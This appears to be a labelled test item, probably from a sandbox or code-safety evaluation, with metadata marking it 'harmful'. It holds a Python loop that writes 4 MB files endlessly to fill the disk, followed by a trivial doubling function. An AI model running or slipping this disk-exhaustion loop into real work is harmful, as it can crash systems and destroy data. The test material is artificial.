"""Fills the disk."""

# score: 10
# verdicts: passed
# restarts: 1
# plain: harmful

# %%
number = 0
while True:
    number += 1
    with open(f"big{number}", "wb") as file:
        file.write(bytes(2**22))

# %%
def double(x):
    return 2 * x
